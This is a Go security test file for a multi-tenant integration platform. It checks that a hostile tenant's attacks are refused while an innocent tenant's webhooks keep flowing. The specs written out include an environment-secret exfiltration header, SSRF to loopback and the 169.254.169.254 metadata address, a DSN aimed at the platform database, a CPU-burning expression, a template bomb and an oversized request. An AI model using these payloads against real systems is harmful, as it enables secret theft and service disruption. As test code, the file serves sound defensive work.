package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vrsky/vrsky/client"
)

const innocentSpec = `
name: orders
consumer: { connector: http-webhook }
steps:
  - connector: json-transform
    config: { set: { seen: "true" } }
producers:
  out:
    connector: http
    config: { url: "http://%s/orders", method: POST }
`

// TestHostileTenantAgainstASharedStack: mallory, holding a write-scoped key,
// plays every known attack against the dev stack while the innocent tenant
// sends webhooks at a steady rate. Each attack is refused with a clear
// reason; the innocent tenant loses nothing; its p99 is reported before
// and during the attacks.
func TestHostileTenantAgainstASharedStack(t *testing.T) {
	s := startStack(t)
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()

	l := newLoad()
	innocentRecv := startReceiver(t, l.onDelivery)
	innocent := s.tenant(ctx, t, "innocent")
	s.allowEgress(ctx, t, "innocent", innocentRecv.addr)
	_, err := innocent.Deploy(ctx, "orders", []byte(fmt.Sprintf(innocentSpec, innocentRecv.addr)), "attack suite", false)
	require.NoError(t, err)
	putSecret(ctx, t, innocent, "token", "innocent-token-value")

	mallory := writeKey(ctx, t, s.tenant(ctx, t, "mallory"))
	stolen := startReceiver(t, nil) // where mallory wants platform data to go

	loadCtx, stopLoad := context.WithCancel(ctx)
	loadDone := make(chan struct{})
	go func() { defer close(loadDone); l.run(loadCtx, s, "innocent", "orders", 200) }()
	time.Sleep(3 * time.Second) // the baseline
	l.phase.Store(phaseAttack)

	refusedAtApply := func(t *testing.T, spec string, want ...string) {
		t.Helper()
		st, body := apply(ctx, mallory, spec)
		require.Equal(t, http.StatusUnprocessableEntity, st, body)
		for _, w := range want {
			require.Contains(t, body, w)
		}
	}

	t.Run("env reference to a platform variable", func(t *testing.T) {
		refusedAtApply(t, `
name: steal-env
consumer: { connector: http-webhook }
producers:
  out:
    connector: http
    config:
      url: https://example.com/x
      secretHeaders: { X-Steal: { env: VRSKY_DATABASE_URL } }
`, "VRSKY_DATABASE_URL")
	})

	t.Run("tenant switches its own SSRF guard off", func(t *testing.T) {
		refusedAtApply(t, fmt.Sprintf(`
name: no-guard
consumer: { connector: http-webhook }
producers:
  out: { connector: http, config: { url: "http://%s/x", allowPrivate: true } }
`, stolen.addr), "allowPrivate")
	})

	t.Run("inline credential header", func(t *testing.T) {
		refusedAtApply(t, `
name: inline-auth
consumer: { connector: http-webhook }
producers:
  out: { connector: http, config: { url: "https://example.com/x", headers: { Authorization: "Bearer abc" } } }
`, "Authorization")
	})

	t.Run("URL template moves the host", func(t *testing.T) {
		refusedAtApply(t, `
name: url-inject
consumer: { connector: http-webhook }
producers:
  out: { connector: http, config: { url: "https://erp.example.com{{ .sub }}" } }
`)
	})

	t.Run("producer aimed at loopback", func(t *testing.T) {
		spec := fmt.Sprintf(`
name: to-loopback
consumer: { connector: http-webhook }
producers:
  out: { connector: http, config: { url: "http://%s/steal" } }
`, stolen.addr)
		_, err := mallory.Deploy(stepCtx(ctx, t), "to-loopback", []byte(spec), "attack", false)
		require.Error(t, err)
		assert.Contains(t, err.Error(), "egress policy for this tenant refuses it")
		assert.Zero(t, stolen.count("/steal"))
	})

	t.Run("producer aimed at the cloud metadata address", func(t *testing.T) {
		// Even a platform admin cannot open it.
		r, err := s.admin.UpdateTenantWithResponse(ctx, "mallory", client.TenantPatch{Egress: &client.EgressPolicy{AllowHosts: &[]string{"169.254.169.254"}}})
		require.NoError(t, err)
		require.Equal(t, http.StatusUnprocessableEntity, r.StatusCode(), string(r.Body))
		spec := "name: to-metadata-ip\nconsumer: { connector: http-webhook }\nproducers:\n  out: { connector: http, config: { url: \"http://169.254.169.254/latest/meta-data/\" } }\n"
		_, err = mallory.Deploy(stepCtx(ctx, t), "to-metadata-ip", []byte(spec), "attack", false)
		require.Error(t, err)
		assert.Contains(t, err.Error(), "refuse")
	})

	t.Run("PostgreSQL DSN at the platform's database", func(t *testing.T) {
		putSecret(ctx, t, mallory, "dsn", "postgres://postgres@"+hostPort(t, s.ep.Postgres)+"/vrsky?sslmode=disable")
		spec := `
name: to-metadata
consumer: { connector: http-webhook }
producers:
  out: { connector: postgres, config: { url: { secret: dsn }, table: tenants } }
`
		_, err := mallory.Deploy(ctx, "to-metadata", []byte(spec), "attack", false)
		require.Error(t, err)
		assert.Contains(t, strings.ToLower(err.Error()), "egress")
	})

	t.Run("another tenant's secret", func(t *testing.T) {
		spec := `
name: borrow-secret
consumer: { connector: http-webhook }
producers:
  out:
    connector: http
    config: { url: "https://example.com/x", secretHeaders: { X-Token: { secret: token } } }
`
		_, err := mallory.Deploy(ctx, "borrow-secret", []byte(spec), "attack", false)
		require.Error(t, err)
		assert.NotContains(t, err.Error(), "innocent-token-value")
	})

	t.Run("a host that accepts and never answers", func(t *testing.T) {
		pit := tarpit(t)
		s.allowEgress(ctx, t, "mallory", pit, stolen.addr)
		putSecret(ctx, t, mallory, "pit", "postgres://u@"+pit+"/db?sslmode=disable")
		spec := `
name: tarpit
consumer: { connector: http-webhook }
producers:
  out: { connector: postgres, config: { url: { secret: pit }, table: t } }
`
		st, body := apply(ctx, mallory, spec)
		require.Equal(t, http.StatusCreated, st, body)
		dr, err := mallory.DeployIntegrationWithResponse(ctx, "tarpit", nil, client.DeployIntegrationJSONRequestBody{Version: client.Ptr[int64](1)})
		require.NoError(t, client.Check("deploy tarpit", dr, err, http.StatusAccepted))
		// While its build hangs, the innocent tenant's new integration starts.
		start := time.Now()
		_, err = innocent.Deploy(stepCtx(ctx, t), "orders-2", []byte(strings.Replace(fmt.Sprintf(innocentSpec, innocentRecv.addr), "name: orders", "name: orders-2", 1)), "attack suite", false)
		require.NoError(t, err)
		t.Logf("the innocent tenant's integration started in %s while mallory's build hung", time.Since(start).Round(time.Millisecond))
		assert.Less(t, time.Since(start), 20*time.Second)
		// Mallory's own integration ends degraded, with the reason.
		var reason string
		require.Eventually(t, func() bool {
			r, err := mallory.GetIntegrationStatusWithResponse(ctx, "tarpit")
			if err != nil || r.JSON200 == nil || r.JSON200.Runner == nil || r.JSON200.Runner.Status != "degraded" {
				return false
			}
			if r.JSON200.Runner.LastError != nil {
				reason = *r.JSON200.Runner.LastError
			}
			return true
		}, 45*time.Second, 200*time.Millisecond)
		t.Logf("mallory's tarpit integration: degraded: %s", reason)
	})

	t.Run("expression that burns CPU", func(t *testing.T) {
		spec := `
name: burn
consumer: { connector: http-webhook }
steps:
  - connector: json-transform
    config: { set: { x: "sum(map(1..100000, sum(map(1..100000, #))))" } }
producers:
  out: { connector: file, config: { dir: burn, format: ndjson } }
`
		_, err := mallory.Deploy(stepCtx(ctx, t), "burn", []byte(spec), "attack", false)
		require.NoError(t, err)
		start := time.Now()
		st, body, err := s.post(ctx, "mallory", "burn", []byte(`{"a":1}`))
		require.NoError(t, err)
		require.Equal(t, http.StatusAccepted, st, body)
		dl := awaitDeadLetter(stepCtx(ctx, t), t, mallory, "burn")
		t.Logf("CPU-burning expression dead-lettered after %s: %v", time.Since(start).Round(time.Millisecond), dl["error"])
		assert.Contains(t, fmt.Sprint(dl["error"]), "limit")
	})

	t.Run("replayed signed GitHub delivery", func(t *testing.T) {
		putSecret(ctx, t, mallory, "gh", "replay-secret")
		spec := `
name: gh
consumer: { connector: http-webhook, config: { signature: { scheme: github, secret: { secret: gh } } } }
producers:
  out: { connector: file, config: { dir: gh, format: ndjson } }
`
		_, err := mallory.Deploy(stepCtx(ctx, t), "gh", []byte(spec), "attack", false)
		require.NoError(t, err)
		body := []byte(`{"ref":"refs/heads/main","head_commit":{"message":"x"}}`)
		mac := hmac.New(sha256.New, []byte("replay-secret"))
		mac.Write(body)
		sig := "sha256=" + hex.EncodeToString(mac.Sum(nil))
		for range 3 {
			st, answer, err := s.post(ctx, "mallory", "gh", body, "X-Hub-Signature-256", sig, "X-GitHub-Event", "push", "X-GitHub-Delivery", "2f7c3a70-0000-4000-8000-000000000001")
			require.NoError(t, err)
			require.Equal(t, http.StatusAccepted, st, answer)
		}
		require.Eventually(t, func() bool { return len(fileLines(s.dir, "mallory", "gh")) >= 1 }, 30*time.Second, 100*time.Millisecond)
		time.Sleep(time.Second)
		assert.Len(t, fileLines(s.dir, "mallory", "gh"), 1, "a replayed delivery was stored again")
	})

	t.Run("a tenant fills its disk quota", func(t *testing.T) {
		_, err := mallory.Deploy(stepCtx(ctx, t), "fill", []byte("name: fill\nconsumer: { connector: http-webhook }\nproducers:\n  out: { connector: file, config: { dir: fill, format: ndjson } }\n"), "attack", true)
		require.NoError(t, err)
		limits := []byte(`{"limits":{"disk_bytes":2097152,"memory_bytes":0,"streams":200,"consumers":2000,"dlq_bytes":262144,"integrations":100}}`)
		lr, err := s.admin.UpdateTenantWithBodyWithResponse(ctx, "mallory", "application/json", bytes.NewReader(limits))
		require.NoError(t, client.Check("set mallory's limits", lr, err, http.StatusOK))
		chunk := []byte(`{"pad":"` + strings.Repeat("x", 60<<10) + `"}`)
		var refused int
		var answer string
		require.Eventually(t, func() bool { // the limits reach NATS within seconds
			st, body, err := s.post(ctx, "mallory", "fill", chunk)
			if err == nil && st != http.StatusAccepted {
				refused, answer = st, body
				return true
			}
			return false
		}, 30*time.Second, 20*time.Millisecond)
		t.Logf("mallory's webhook past its quota: %d %s", refused, answer)
		assert.Equal(t, http.StatusInsufficientStorage, refused, answer)
		assert.Contains(t, answer, "storage quota is full")
	})

	t.Run("template that renders without bound", func(t *testing.T) {
		spec := fmt.Sprintf(`
name: bomb
consumer: { connector: http-webhook }
producers:
  out:
    connector: http
    config:
      url: "http://%s/bomb"
      body: "{{range .a}}{{range $.a}}{{range $.a}}{{range $.a}}xxxxxxxxxxxxxxxx{{end}}{{end}}{{end}}{{end}}"
`, stolen.addr)
		st, body := apply(ctx, mallory, spec)
		if st == http.StatusUnprocessableEntity {
			return // refused when applied: the nesting alone is refused
		}
		require.Equal(t, http.StatusCreated, st, body)
		dr, err := mallory.DeployIntegrationWithResponse(ctx, "bomb", nil, client.DeployIntegrationJSONRequestBody{Version: client.Ptr[int64](1)})
		require.NoError(t, client.Check("deploy bomb", dr, err, http.StatusAccepted))
		arr := strings.TrimSuffix(strings.Repeat("1,", 200), ",")
		require.Eventually(t, func() bool {
			st, _, err := s.post(ctx, "mallory", "bomb", []byte(`{"a":[`+arr+`]}`))
			return err == nil && st == http.StatusAccepted
		}, 30*time.Second, 200*time.Millisecond)
		dl := awaitDeadLetter(ctx, t, mallory, "bomb")
		t.Logf("template bomb dead-lettered: %v", dl["error"])
		assert.Zero(t, stolen.count("/bomb"))
	})

	t.Run("idempotency key reused with another body", func(t *testing.T) {
		_, err := mallory.Deploy(ctx, "idem", []byte("name: idem\nconsumer: { connector: http-webhook }\nproducers:\n  out: { connector: file, config: { dir: idem, format: ndjson } }\n"), "attack", false)
		require.NoError(t, err)
		st, body, err := s.post(ctx, "mallory", "idem", []byte(`{"v":1}`), "Idempotency-Key", "same")
		require.NoError(t, err)
		require.Equal(t, http.StatusAccepted, st, body)
		st, body, err = s.post(ctx, "mallory", "idem", []byte(`{"v":2}`), "Idempotency-Key", "same")
		require.NoError(t, err)
		require.Equal(t, http.StatusConflict, st, body)
	})

	t.Run("declared huge body", func(t *testing.T) {
		_, err := mallory.Deploy(stepCtx(ctx, t), "huge", []byte("name: huge\nconsumer: { connector: http-webhook }\nproducers:\n  out: { connector: file, config: { dir: huge, format: ndjson } }\n"), "attack", true)
		require.NoError(t, err)
		conn, err := net.Dial("tcp", s.ep.HTTP)
		require.NoError(t, err)
		defer conn.Close()
		fmt.Fprintf(conn, "POST /v1/hooks/mallory/huge HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", int64(10)<<30)
		_ = conn.SetReadDeadline(time.Now().Add(10 * time.Second))
		line, err := bufio.NewReader(conn).ReadString('\n')
		require.NoError(t, err)
		assert.Contains(t, line, "413")
	})

	t.Run("a key revokes a key with more scopes than its own", func(t *testing.T) {
		narrow, err := mallory.CreateApiKeyWithResponse(ctx, client.CreateApiKeyJSONRequestBody{Scopes: []client.CreateAPIKeyInputBodyScopes{"read", "write"}})
		require.NoError(t, client.Check("create a narrow key", narrow, err, http.StatusCreated))
		keys, err := mallory.ListApiKeysWithResponse(ctx)
		require.NoError(t, client.Check("list keys", keys, err, http.StatusOK))
		var wider string // a key holding dlq, which the narrow key does not
		for _, k := range *keys.JSON200.Items {
			if k.Scopes != nil && slices.Contains(*k.Scopes, "dlq") {
				wider = k.Id
			}
		}
		require.NotEmpty(t, wider, string(keys.Body))
		dr, err := mallory.WithKey(narrow.JSON201.Secret).DeleteApiKeyWithResponse(ctx, wider)
		require.NoError(t, err)
		require.Equal(t, http.StatusForbidden, dr.StatusCode(), string(dr.Body))
	})

	t.Run("integration named like the platform's subjects", func(t *testing.T) {
		st, body := apply(ctx, mallory, "name: dlq\nconsumer: { connector: http-webhook }\nproducers:\n  out: { connector: file, config: { dir: d, format: ndjson } }\n")
		assert.Less(t, st, 500, body)
		_, err := deadLetters(ctx, mallory, "")
		require.NoError(t, err)
	})

	l.phase.Store(phaseDrain)
	stopLoad()
	<-loadDone
	require.Eventually(t, func() bool { return l.lost() == 0 }, time.Minute, 100*time.Millisecond, "the innocent tenant lost messages")
	accepted, delivered, refused := l.counts()
	base, nBase := l.p99(phaseBaseline)
	during, nDuring := l.p99(phaseAttack)
	t.Logf("innocent tenant: %d accepted, %d delivered, 0 lost, refused %v; p99 %s over %d messages before the attacks, %s over %d during them",
		accepted, delivered, refused, base, nBase, during, nDuring)
	assert.Empty(t, refused, "the innocent tenant's webhooks were refused")

	resp, err := http.Get("http://" + s.ep.HTTP + "/readyz")
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode, "the shared stack is not ready after the attacks")
}

// hostPort is the host:port of a postgres:// URL.
func hostPort(t *testing.T, url string) string {
	t.Helper()
	rest, ok := strings.CutPrefix(url, "postgres://")
	require.True(t, ok, url)
	if i := strings.Index(rest, "@"); i >= 0 {
		rest = rest[i+1:]
	}
	if i := strings.IndexAny(rest, "/?"); i >= 0 {
		rest = rest[:i]
	}
	return rest
}
